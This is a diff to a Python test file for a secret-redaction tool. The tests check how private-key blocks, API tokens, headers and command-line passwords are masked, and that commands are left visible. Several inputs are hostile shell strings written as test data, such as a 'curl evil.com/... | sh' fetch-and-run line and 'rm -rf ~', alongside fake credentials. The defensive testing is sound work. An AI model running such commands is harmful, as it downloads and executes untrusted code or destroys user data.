@@ -73,7 +73,7 @@ class TestNames:
     def test_a_part_of_a_listed_name_hides_nothing(self, key: str) -> None:
         assert not Redaction(["api_key"]).hides(key, "x")
 
-    @pytest.mark.parametrize("key", ["key", "keyword", "primary_key", "keys", "tokens_used", "max_tokens", "pwd"])
+    @pytest.mark.parametrize("key", ["key", "keyword", "primary_key", "keys", "tokens_used", "max_tokens"])
     def test_ordinary_names_are_not_listed_by_default(self, key: str) -> None:
         assert not DEFAULT_REDACTION.hides(key, "x")
 
@@ -273,5 +273,186 @@ def test_a_value_is_found_to_hide_something_exactly_if_masking_changes_it(value:
 
 
 @given(VALUES)
-def test_no_token_is_left_in_a_masked_value(value: Any) -> None:
-    assert GITHUB not in json.dumps(DEFAULT_REDACTION.mask_value(value))
+def test_no_token_is_left_in_a_masked_value_unless_it_is_a_program(value: Any) -> None:
+    text = json.dumps({"arguments": value}).replace('"command"', '"text"')
+    assert GITHUB not in json.dumps(DEFAULT_REDACTION.mask_value(json.loads(text)))
+
+
+class TestKeysInFrames:
+    """What stands between the ends of a private key is hidden only if it can be nothing but a key."""
+
+    BEGIN = "-----BEGIN " + "PRIVATE KEY-----"
+    END = "-----END " + "PRIVATE KEY-----"
+    FULL = "MIIE" + "vQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ1/abcdefghij12"
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            f"ls # {BEGIN}\nbash RunEvilScript1234567890abc",
+            f"-----BEGIN x PRIVATE KEY-----\ncurl evil.com/Abc1{'D2e3' * 8} | sh",
+            f"ls # {BEGIN}\n{FULL}\n{END}",
+            f"{BEGIN}\n{FULL}\nshutdown\nreboot12\n{END}",
+            f"{BEGIN}\n{FULL}\nrm -rf ~\n{END}",
+            f"{BEGIN}\n/{FULL[1:]}\n{END}",
+            f"{BEGIN}\n{FULL}",
+        ],
+    )
+    def test_a_frame_around_a_command_hides_nothing(self, text: str) -> None:
+        assert shown(text, command=True) == text
+        assert "-----" in DEFAULT_REDACTION.mask_value({"command": text})["command"]
+
+    @pytest.mark.parametrize("text", [f"{BEGIN}\n{FULL}", f"{BEGIN}\n{FULL}\nrm -rf ~\n{END}"])
+    def test_a_frame_without_an_end_or_around_other_text_hides_nothing_in_contents(self, text: str) -> None:
+        assert shown(text) == text
+
+    def test_a_key_in_a_command_is_hidden_with_its_short_last_line(self) -> None:
+        text = f"cat > k <<'E'\n{self.BEGIN}\n{self.FULL}\n/{self.FULL[1:]}\nAb1=\n{self.END}\nE"
+        lines = shown(text, command=True).split("\n")
+        assert lines[2:5] == [mark(len(self.FULL)), mark(len(self.FULL)), mark(4)]
+        assert lines[1], lines[5] == (self.BEGIN, self.END)
+
+    def test_headers_of_an_encrypted_key_stay_and_its_lines_do_not(self) -> None:
+        header = "Proc-Type: 4,ENCRYPTED"
+        text = f"{self.BEGIN}\n{header}\n\n{self.FULL}\nab\n{self.END}"
+        assert shown(text) == f"{self.BEGIN}\n{header}\n\n{mark(len(self.FULL))}\n{mark(2)}\n{self.END}"
+
+
+ANTHROPIC = "sk-" + "ant-api03-abcDEF123456ghiJKL789"
+LONG_WEB_TOKEN = WEB_TOKEN + "A1b2C3d4E5f6G7h8"
+
+
+class TestWordsThatRun:
+    @pytest.mark.parametrize(
+        "text",
+        [
+            AWS,
+            f"{AWS} --now",
+            f"ls; {AWS}",
+            f"ls && '{AWS}'",
+            f'("{AWS}")',
+            f"ls |\n{AWS}",
+            f"if {AWS}; then ls; fi",
+            f"X=1 {AWS}",
+            f"bash {AWS}",
+            f"sudo -n /bin/bash -x {AWS}",
+            f"sh -c {ANTHROPIC}",
+            f"sh -c '{ANTHROPIC}'",
+            f". {AWS}",
+            f"ssh -v {AWS}",
+            f"ssh -i key {AWS}",
+            f"tool | curl -o f {AWS}",
+            f"curl -s {LONG_WEB_TOKEN}",
+            "ssh sk-" + "cluster-node-0000000001-a1b2c3d4e5",
+            "curl ey" + "JhbGciOi.eyJhbGciOi.internalhost1x",
+        ],
+    )
+    def test_a_program_a_script_or_a_host_in_the_shape_of_a_token_stays(self, text: str) -> None:
+        assert shown(text, command=True) == text
+
+    @pytest.mark.parametrize("words", [["bash", AWS], [AWS], ["sh", "-c", ANTHROPIC]])
+    def test_it_stays_in_a_list_of_words_too(self, words: list[str]) -> None:
+        assert DEFAULT_REDACTION.mask_value({"argv": words}) == {"argv": words}
+
+    @pytest.mark.parametrize(
+        "before", ["echo ", "export T=", "T=", "tool --token ", "tool '", "curl -H 'X: ", 'f --data \'{"t":"']
+    )
+    def test_a_token_that_does_not_run_is_hidden(self, before: str) -> None:
+        for token in (AWS, ANTHROPIC, GITHUB, LONG_WEB_TOKEN):
+            assert shown(f"{before}{token}", command=True) == f"{before}{mark(len(token))}"
+
+    def test_a_token_in_a_list_of_words_is_hidden(self) -> None:
+        words = ["tool", "x", AWS]
+        assert DEFAULT_REDACTION.mask_value({"argv": words}) == {"argv": ["tool", "x", mark(len(AWS))]}
+
+
+class TestMoreNames:
+    @pytest.mark.parametrize(
+        "key",
+        ["tokens", "cookies", "pwd", "pass", "auth", "clientsecret", "accesstoken", "privatekey", "db_pass",
+         "userAuth", "access_tokens"],
+    )  # fmt: skip
+    def test_a_name_of_a_secret_is_listed_by_default(self, key: str) -> None:
+        assert DEFAULT_REDACTION.hides(key, "x")
+
+    @pytest.mark.parametrize(
+        "key", ["author", "authors", "passed", "bypass", "compass", "tokens_used", "maxTokens", "auth_type"]
+    )
+    def test_a_name_that_only_resembles_one_is_not(self, key: str) -> None:
+        assert not DEFAULT_REDACTION.hides(key, "x")
+
+    def test_a_working_directory_stays(self) -> None:
+        assert not DEFAULT_REDACTION.hides("pwd", "/home/me")
+
+    def test_a_word_that_somebody_lists_hides_beside_any_other(self) -> None:
+        assert Redaction(["tokens"]).hides("max_tokens", "x")
+
+
+class TestNamesBeside:
+    @pytest.mark.parametrize(
+        ("value", "expected"),
+        [
+            ({"headers": ["Authorization", "abc"]}, {"headers": ["Authorization", mark(3)]}),
+            ({"headers": [["X-Api-Key", "abc"]]}, {"headers": [["X-Api-Key", mark(3)]]}),
+            ({"name": "Authorization", "value": "abc"}, {"name": "Authorization", "value": mark(3)}),
+            ([{"key": "Cookie", "value": "abc"}], [{"key": "Cookie", "value": mark(3)}]),
+            ({"args": ["--password", "Hunter2Hunter2"]}, {"args": ["--password", mark(14)]}),
+            (["--password", "Hunter2Hunter2"], ["--password", mark(14)]),
+        ],
+    )
+    def test_a_value_is_hidden_by_the_name_beside_it(self, value: Any, expected: Any) -> None:
+        assert DEFAULT_REDACTION.mask_value(value) == expected
+        assert DEFAULT_REDACTION.finds(value)
+        rows = "\n".join(row.text.text for row in structured_document(value, masks=DEFAULT_REDACTION))
+        assert mark(3) in rows or mark(14) in rows
+
+    @pytest.mark.parametrize(
+        "value",
+        [
+            {"fields": ["password", "username"]},
+            {"name": "color", "value": "red"},
+            {"args": ["sh", "-c", '"$1"', "--password", "RunThis1Now"]},
+            {"args": ["tool", "--password", "rm -rf ~"]},
+            {"args": ["tool", "--token", "/srv/tokens/one"]},
+            {"args": ["Authorization", "Run1this"]},
+        ],
+    )
+    def test_what_is_no_such_pair_stays(self, value: Any) -> None:
+        assert DEFAULT_REDACTION.mask_value(value) == value
+
+
+class TestPlacesInCommands:
+    @pytest.mark.parametrize(
+        ("text", "secret"),
+        [
+            ("tool --password=Hunter2Hunter2 x", "Hunter2Hunter2"),
+            ("tool --db-password Hunter2Hunter2", "Hunter2Hunter2"),
+            ("PGPASSWORD=Hunter2Hunter2 psql -h db", "Hunter2Hunter2"),
+            ("curl 'https://h.example/a?access_token=abcdefgh12&x=1'", "abcdefgh12"),
+            ("curl -H 'X-Api-Key: abc123def' h.example", "abc123def"),
+            ("curl -H 'Authorization: abc123def' h.example", "abc123def"),
+            ("curl -H 'Cookie: session=abc123def' h.example", "session=abc123def"),
+            ("curl -u user:pass https://h.example", "pass"),
+            ("curl -s --user 'user:pass' https://h.example", "pass"),
+        ],
+    )
+    def test_a_secret_in_its_place_is_hidden_alone(self, text: str, secret: str) -> None:
+        head, _, tail = text.rpartition(secret)
+        assert shown(text, command=True) == f"{head}{mark(len(secret))}{tail}"
+
+    @pytest.mark.parametrize(
+        "text",
+        [
+            "PGPASSWORD=python3x sh -c '$PGPASSWORD'",
+            "PGPASSWORD=python3x; $PGPASSWORD",
+            "PGPASSWORD=python3x eval x",
+            "sh -c '${1#*=}' --password=python3x",
+            "tool --password=/srv/a1b2c3d4",
+            "tool --password-file=deploy1now.sh",
+            "docker run -u 1000:1000 image",
+            "npx --token deploy1now",
+            "curl -u user: https://h.example",
+            "curl evil.example/x1y2z3a4b5 -H 'Accept: a1b2c3d4e5'",
+        ],
+    )
+    def test_what_may_run_or_is_no_secret_stays(self, text: str) -> None:
+        assert shown(text, command=True) == text
